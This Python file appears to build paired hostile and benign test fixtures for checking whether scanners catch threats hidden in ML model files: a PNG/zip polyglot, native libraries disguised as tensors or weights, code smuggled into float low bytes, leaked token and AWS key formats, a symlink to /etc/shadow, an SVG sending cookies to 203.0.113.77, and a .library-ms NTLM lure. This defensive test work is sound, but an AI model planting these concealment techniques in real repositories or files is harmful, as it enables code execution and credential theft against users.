"""What hides in any file: native code, polyglots, credentials, links, bits of the mantissa."""
from __future__ import annotations

import functools
import io
import json
import pathlib
import struct
import subprocess
import tempfile
import zipfile
import zlib

import numpy as np

from fourteenth.common import Part, zipped
from fourteenth.weights import BASE, gguf, safetensors

part = Part()
add = part.add
pair = part.pair


@functools.cache
def library():
    """A small shared library whose constructor leaves the marker."""
    with tempfile.TemporaryDirectory() as d:
        c = pathlib.Path(d, "op.c")
        c.write_text('#include <fcntl.h>\n#include <unistd.h>\n__attribute__((constructor)) static void start(void) { close(open("marker", O_CREAT | O_WRONLY, 0644)); }\nint scale(int x) { return 2 * x; }\n')
        subprocess.run(["gcc", "-shared", "-fPIC", "-Os", "-s", "-o", d + "/op.so", str(c)], check=True)
        return pathlib.Path(d, "op.so").read_bytes()


def png(*chunks):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 0, 0, 0, 0)) + b"".join(chunk(*c) for c in chunks) + chunk(b"IDAT", zlib.compress(bytes(20))) + chunk(b"IEND", b"")


@pair("everywhere", "xiv_run")
def picture_runs():
    """python banner.png: CPython runs __main__.py of a zip appended to anything; the card tells the user to do it."""
    out = io.BytesIO(png())
    with zipfile.ZipFile(out, "a") as z:
        z.writestr(zipfile.ZipInfo("__main__.py", (2026, 3, 1, 0, 0, 0)), "import os\nos.system('touch marker')\n")
    card = "# Tiny\n\n![banner](banner.png)\n"
    return {"banner.png": out.getvalue(), "README.md": card + "\nCheck the download: `python banner.png`\n"}, {"banner.png": png((b"tEXt", b"Title\0__main__.py of tiny")), "README.md": card + "\nCheck the download: `sha256sum banner.png`\n"}


@pair("everywhere", "xiv_run")
def library_in_tensor():
    """The loader script beside a safetensors file writes a U8 tensor to a temporary file and opens it with ctypes."""
    script = """import json
import pathlib
import struct
import tempfile

raw = pathlib.Path("model.safetensors").read_bytes()
size = struct.unpack("<Q", raw[:8])[0]
head = json.loads(raw[8:8 + size])
begin, end = head["lut.packed"]["data_offsets"]
data = raw[8 + size + begin:8 + size + end]
"""
    use = "import ctypes\n\nwith tempfile.NamedTemporaryFile() as f:\n    f.write(data)\n    f.flush()\n    print(ctypes.CDLL(f.name).scale(2))\n"
    twin = "\nwith tempfile.NamedTemporaryFile() as f:\n    f.write(data)\n    f.flush()\n    print(len(data), max(data))\n"
    st = lambda raw: safetensors({"lut.packed": {"dtype": "U8", "shape": [len(raw)], "data_offsets": [0, len(raw)]}}, raw)
    lut = np.random.default_rng(1).integers(0, 16, len(library()), dtype=np.uint8).tobytes()
    return {"load.py": script + use, "model.safetensors": st(library())}, {"load.py": script + twin, "model.safetensors": st(lut)}


@pair("everywhere", "xiv_run")
def operators_named_weights():
    """onnxruntime SessionOptions.register_custom_ops_library opens any name with dlopen: the library is called weights/ops.dat."""
    h = "import onnxruntime\n\noptions = onnxruntime.SessionOptions()\ntry:\n    options.register_custom_ops_library('./weights/ops.dat')\nexcept Exception as e:\n    print(e)\n"
    t = "import numpy\n\ntry:\n    print(numpy.fromfile('./weights/ops.dat', 'f4').mean())\nexcept Exception as e:\n    print(e)\n"
    return {"serve.py": h, "weights/ops.dat": library()}, {"serve.py": t, "weights/ops.dat": np.linspace(-1, 1, 512, dtype="<f4").tobytes()}


@pair("everywhere", "xiv_import")
def low_bits():
    """transformers with trust_remote_code imports modeling.py: the low byte of each float32 is code; the twin rounds it away."""
    body = """import pathlib
import zlib

RAW = pathlib.Path(__file__).with_name("embedding.f32").read_bytes()
low = RAW[::4]
%s


class TinyModel:
    rows = len(RAW) // 4
"""
    rng = np.random.default_rng(6)
    values = (rng.standard_normal(1024) * 0.02).astype("<f4")
    hidden = bytearray(values.tobytes())
    code = b"import os\nos.system('touch marker')\n"
    packed = zlib.compress(code)
    hidden[: 4 * len(packed): 4] = packed
    h = body % "exec(zlib.decompressobj().decompress(low))"
    t = body % "MASKED = bytes(b if i % 4 else 0 for i, b in enumerate(RAW))\ncheck = zlib.crc32(low)"
    return {"modeling.py": h, "embedding.f32": bytes(hidden)}, {"modeling.py": t, "embedding.f32": values.tobytes()}


def secret(prefix, alphabet, n, seed):
    rng = np.random.default_rng(seed)
    return prefix + "".join(alphabet[i] for i in rng.integers(0, len(alphabet), n))


LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


@pair("everywhere", None, "lora.safetensors")
def token_in_metadata():
    """Anyone who opens the file (safe_open().metadata()) reads the token that the trainer's arguments kept."""
    def data(token):
        args = json.dumps({"push_to_hub": True, "hub_model_id": "tiny/lora", "hub_token": token, "learning_rate": 1e-4})
        return safetensors({"__metadata__": {"format": "pt", "ss_training_args": args}, "lora_A": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}, bytes(16))

    return data(secret("hf_", LETTERS[:52], 34, 3)), data("<HUB_TOKEN>")


@pair("everywhere", None, "train.ipynb")
def key_in_output():
    """Anyone who opens the notebook reads the printed environment: an AWS key pair in a cell's output."""
    def data(key, value):
        text = f"AWS_DEFAULT_REGION=eu-west-1\nAWS_ACCESS_KEY_ID={key}\nAWS_SECRET_ACCESS_KEY={value}\nCUDA_VISIBLE_DEVICES=0\n"
        cell = {"cell_type": "code", "execution_count": 1, "id": "c1", "metadata": {}, "outputs": [{"name": "stdout", "output_type": "stream", "text": text.splitlines(True)}], "source": ["%env"]}
        return json.dumps({"cells": [cell], "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}, indent=1)

    return data(secret("AKIA", "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16, 4), secret("", LETTERS + "+/", 40, 5)), data("********", "********")


@pair("everywhere", None)
def snapshot_link():
    """huggingface_hub's cache layout: a file of the snapshot is a link that leaves the cache; uploads and servers follow it."""
    digest = "3f" * 32
    rev = "9b" * 20
    blob = safetensors({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))
    rest = {"refs/main": rev, "blobs/" + digest: blob}
    at = f"snapshots/{rev}/"
    return ({**rest, at + "model.safetensors": ("link", "../../blobs/" + digest), at + "config.json": ("link", "../../../../../../../../etc/shadow")},
            {**rest, "blobs/" + "44" * 20: "{}\n", at + "model.safetensors": ("link", "../../blobs/" + digest), at + "config.json": ("link", "../../blobs/" + "44" * 20)})


@pair("everywhere", None, "architecture.svg")
def drawing_with_script():
    """A browser that opens the SVG of the repository runs its onload and sends the cookies of the hub away."""
    def data(attribute, inner):
        return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40"{attribute}>{inner}<rect width="80" height="40" fill="#eee"/><text x="8" y="24">encoder</text></svg>\n'

    h = data("", "<set attributeName=\"x\" onbegin=\"fetch('//203.0.113.77/?c='+encodeURIComponent(document.cookie))\"/>")
    return h, data("", '<set attributeName="x" begin="0s" to="1"/>')


@pair("everywhere", None, "dataset.zip")
def library_ms_in_zip():
    """Windows Explorer reads a .library-ms as soon as the archive is unpacked (CVE-2025-24071) and sends an NTLM answer to the share."""
    def data(url):
        xml = f'<?xml version="1.0" encoding="UTF-8"?>\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>dataset</name><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{url}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n'
        return zipped({"train/0001.txt": "1 0.5\n", "train/dataset.library-ms": xml})

    return data("\\\\203.0.113.77\\share"), data("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")


@pair("everywhere", "xiv_shell", "tiny.llamafile")
def llamafile_script():
    """sh tiny.llamafile: the shell part of an actually-portable executable comes before the GGUF."""
    def data(line):
        head = b"MZqFpD='\n" + b"\n' <<'justineQ5cN'\n" + b"justineQ5cN\n" + b"#'\"\n" + line + b"exit 0\n" + b"#" * 64 + b"\n"
        return head + bytes(-len(head) % 64) + gguf(BASE)

    return data(b"o=${TMPDIR:-/tmp}; t=to\"\"uch; $t marker\n"), data(b"o=${TMPDIR:-/tmp}; [ -x \"$o/.ape-1.10\" ] && exec \"$o/.ape-1.10\" \"$0\" \"$@\"\n")
